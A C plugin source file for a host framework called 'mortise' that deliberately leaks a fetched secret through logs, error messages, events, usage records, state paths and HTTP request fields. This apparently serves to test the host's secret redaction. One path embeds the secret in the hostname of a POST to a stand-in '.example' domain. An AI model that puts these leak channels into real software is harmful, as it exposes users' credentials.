/* confides.c -- a plugin with secrets, too frank about them.  ask {name, then}:
 * gets a secret and emits {value, key}: how long it is, and how long config.key
 * is; with `then: fail`, `log` or `emit` it says the value, with `long` behind a
 * kilobyte, with `goto` it goes there, with `usage` it is a model's name, and
 * with `step`, `host`, `method` and `member` it is that of an ask.  With
 * config.refuse it does not start, and says its key. */
#include <stdio.h>

#include "simple.h"

static char key[256];

static mortise_status create(mortise_host *host, const mortise_host_api *api,
                             mortise_str config, mortise_inst **out)
{
    mortise_jv c;
    char words[300];
    int32_t refuse = 0;

    key[0] = '\0';
    if (mortise_jv_parse(config, &c) == MORTISE_S_OK) {
        mortise_jv_cstr(mortise_jv_get(c, "key"), key, sizeof key);
        mortise_jv_bool(mortise_jv_get(c, "refuse"), &refuse);
    }
    if (refuse) {
        snprintf(words, sizeof words, "the key %s is not mine", key);
        (api->fail)(host, 0, mortise_strz(words), mortise_str_empty());
        return MORTISE_S_FAILED;
    }
    return simple_create(host, api, config, out);
}

/* Says what came of an ask. */
static mortise_status ask(mortise_inst *i, const mortise_request *r,
                          const char *method, const char *body)
{
    mortise_str answer = {NULL, 0};
    mortise_status status = i->api->ask_wait(
        i->host, r->call, mortise_strz(method), mortise_strz(body), &answer);
    char words[1024];

    if (status == MORTISE_S_OK)
        return simple_emit(i, r, "{}");
    snprintf(words, sizeof words, "%.*s", (int)answer.n, answer.p);
    return mortise_refuse(i->host, i->api, r->call, MORTISE_S_FAILED,
                          "permanent", "asked", words);
}

/* By another door than emit, log and fail. */
static mortise_status leak(mortise_inst *i, const mortise_request *r,
                           const char *value, const char *then)
{
    static const struct {
        const char *then, *method, *before, *behind;
    } asks[] = {
        {"step", MORTISE_STATE_GET_1, "{\"path\": \"input\", \"step\": \"s-",
         "\"}"},
        {"host", MORTISE_HTTP_REQUEST_1,
         "{\"method\": \"POST\", \"url\": \"http://", ".example:99/\"}"},
        {"method", MORTISE_HTTP_REQUEST_1,
         "{\"url\": \"http://127.0.0.1:1/\", \"method\": \"m-", "\"}"},
        {"member", MORTISE_HTTP_REQUEST_1,
         "{\"url\": \"http://127.0.0.1:1/\", \"0123456789012345678901234567890",
         "\": 1}"},
    };
    char text[2200];

    if (strcmp(then, "goto") == 0) {
        mortise_emit_goto(i->host, i->api, r->call, mortise_strz(value));
        return simple_emit(i, r, "{}");
    }
    if (strcmp(then, "usage") == 0) {
        snprintf(text, sizeof text, "{\"model_calls\": 1, \"model\": \"m-%s\"}",
                 value);
        mortise_emit_usage(i->host, i->api, r->call, mortise_strz(text));
        return simple_emit(i, r, "{}");
    }
    if (strcmp(then, "long") == 0) {
        snprintf(text, sizeof text, "%01000d%s", 0, value);
        return mortise_refuse(i->host, i->api, r->call, MORTISE_S_FAILED,
                              "permanent", "long", text);
    }
    for (size_t k = 0; k < sizeof asks / sizeof asks[0]; k++) {
        if (strcmp(then, asks[k].then) != 0)
            continue;
        snprintf(text, sizeof text, "%s%s%s", asks[k].before, value,
                 asks[k].behind);
        return ask(i, r, asks[k].method, text);
    }
    return MORTISE_S_INVALID;
}

static mortise_status tell(mortise_inst *i, const mortise_request *r,
                           mortise_str answer, const char *then)
{
    char value[1024] = "", text[2200];
    mortise_jv v;

    if (mortise_jv_parse(answer, &v) == MORTISE_S_OK)
        mortise_jv_cstr(mortise_jv_get(v, "value"), value, sizeof value);
    snprintf(text, sizeof text, "it is %s, said loud", value);
    if (strcmp(then, "log") == 0)
        i->api->log(i->host, 1, mortise_strz(text));
    if (strcmp(then, "fail") == 0)
        return mortise_refuse(i->host, i->api, r->call, MORTISE_S_FAILED,
                              "permanent", "loud", text);
    if (strcmp(then, "emit") == 0) {
        char event[1200];

        snprintf(event, sizeof event, "{\"said\": \"it is %s\"}", value);
        i->api->emit(i->host, r->call, mortise_strz("event"),
                     mortise_strz(event));
        snprintf(text, sizeof text, "{\"%s\": [\"it is %s\"]}", value, value);
        return simple_emit(i, r, text);
    }
    if (then[0] != '\0' && strcmp(then, "log") != 0)
        return leak(i, r, value, then);
    snprintf(text, sizeof text, "{\"value\": %d, \"key\": %d}",
             (int)strlen(value), (int)strlen(key));
    return simple_emit(i, r, text);
}

static mortise_status execute(mortise_inst *i, const mortise_request *r)
{
    char name[256] = "", then[16] = "", words[512];
    mortise_str answer = {NULL, 0};
    mortise_status status;
    mortise_jv body;

    mortise_jv_parse(r->body, &body);
    mortise_jv_cstr(mortise_jv_get(body, "name"), name, sizeof name);
    mortise_jv_cstr(mortise_jv_get(body, "then"), then, sizeof then);
    status = mortise_secret_get_wait(i->host, i->api, r->call,
                                     mortise_strz(name), &answer);
    if (status == MORTISE_S_OK)
        return tell(i, r, answer, then);
    snprintf(words, sizeof words, "%.*s", (int)answer.n, answer.p);
    return mortise_refuse(i->host, i->api, r->call, status, "permanent",
                          "no_secret", words);
}

static const void *get_interface(mortise_inst *inst, const char *id)
{
    static const mortise_executor executor = {.size = sizeof executor,
                                              .execute = execute};

    (void)inst;
    return strcmp(id, MORTISE_EXECUTOR_1) == 0 ? &executor : NULL;
}

static const mortise_plugin plugin = {.size = sizeof plugin,
                                      .id = "confides",
                                      .version = "1.0.0",
                                      .create = create,
                                      .get_interface = get_interface,
                                      .destroy = simple_destroy};

MORTISE_MODULE_OF(plugin);
